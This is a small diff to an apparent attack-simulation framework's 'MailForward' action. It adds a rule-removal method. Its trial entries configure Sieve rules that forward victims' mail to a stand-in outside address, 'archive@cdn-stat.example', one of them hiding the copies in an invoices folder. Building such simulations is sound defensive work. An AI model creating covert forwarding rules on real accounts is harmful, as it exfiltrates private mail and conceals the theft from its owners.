@@ -42,6 +42,7 @@ class MailForward(Action):
     targets: ClassVar[frozenset[str]] = frozenset({"mail"})
     caps: ClassVar[Caps] = Caps(commands=30)
     touches: ClassVar[str] = "the account's Sieve rules: one more; copies of mails outside; with `hide` a folder"
+    ways: ClassVar[tuple[str, ...]] = ("remove-rule",)
     trials: ClassVar[tuple[Trial, ...]] = (
         Trial("pc1", "mail", {"account": "$victim", "to": "archive@cdn-stat.example"}),
         Trial("pc1", "mail", {"account": "$clerk", "to": "archive@cdn-stat.example", "hide": "請求"}),
